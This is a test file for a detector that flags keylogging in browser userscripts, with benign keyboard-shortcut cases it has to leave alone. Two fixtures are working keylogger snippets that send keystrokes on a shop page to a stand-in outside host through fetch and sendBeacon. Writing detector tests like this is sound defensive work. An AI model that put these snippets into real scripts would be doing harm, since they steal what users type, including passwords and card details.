import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { keylogging } from "./keylogging.ts";

describe("keylogging", () => {
	test.each([
		[
			"every key, at once",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`document.addEventListener("keydown",e=>fetch("https://c.stranger.test/?k="+e.key))`,
			),
		],
		[
			"keys collected and sent in parcels",
			["critical 7"],
			userscript(
				["match https://shop.example/*"],
				`let log="";
window.onkeyup=e=>{log+=e.key};
setInterval(()=>{navigator.sendBeacon("https://c.stranger.test/",log);log=""},5000)`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(keylogging, code)).toEqual(expected);
	});

	test.each([
		[
			"a shortcut",
			userscript(
				["match https://shop.example/*"],
				`document.addEventListener("keydown",e=>{if(e.key==="s"&&e.ctrlKey)document.querySelector("#save").click()})`,
			),
		],
		[
			"a shortcut that asks a server",
			userscript(
				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect api.helper.example"],
				`document.addEventListener("keydown",e=>{if(e.key==="t")GM_xmlhttpRequest({url:"https://api.helper.example/time"})})`,
			),
		],
		[
			"a digit that says how far to wind on",
			userscript(
				["match https://shop.example/*"],
				`const f=document.querySelector("iframe"),s={d:0};addEventListener("message",e=>{s.d=e.data.d});addEventListener("keydown",e=>f.contentWindow.postMessage({to:s.d*e.key/10},"https://player.stranger.test"))`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(keylogging, code)).toEqual([]);
	});
});
